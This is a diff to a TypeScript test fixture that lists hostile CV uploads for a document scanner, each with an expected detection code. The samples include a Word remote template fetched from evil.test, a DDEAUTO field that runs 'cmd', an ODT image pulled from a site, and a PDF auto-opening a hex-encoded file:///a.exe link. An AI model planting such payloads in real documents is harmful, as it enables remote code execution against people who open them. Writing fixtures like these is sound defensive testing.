@@ -287,12 +287,30 @@ export const HOSTILE_CVS: HostileCv[] = [
   {
     what: 'a document whose template lies elsewhere',
     name: 'cv.docx',
-    code: 'CV_HAS_PROGRAM',
+    code: 'CV_REACHES_OUT',
     make: () =>
       docxFile({
         'word/_rels/settings.xml.rels':
           '<Relationships><Relationship Id="1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.test/t.dotm" TargetMode="External"/></Relationships>',
       }),
+  },
+  {
+    what: 'a document that asks another program',
+    name: 'cv.docx',
+    code: 'CV_HAS_PROGRAM',
+    make: () => docxFile({ 'word/header1.xml': `<w:hdr ${WORD}><w:fldSimple w:instr="DDEAUTO cmd"/></w:hdr>` }),
+  },
+  {
+    what: 'a document with a picture from a site',
+    name: 'cv.odt',
+    code: 'CV_REACHES_OUT',
+    make: () => odtFile({ 'styles.xml': '<a><draw:image xlink:href="https://evil.test/a.png"/></a>' }),
+  },
+  {
+    what: 'a PDF with a link to a file',
+    name: 'cv.pdf',
+    code: 'CV_REACHES_OUT',
+    make: () => pdfThatOrders({ catalog: '/OpenAction << /S /URI /URI <66696C653A2F2F2F612E657865> >>' }),
   },
   {
     what: 'an RTF document with an object',
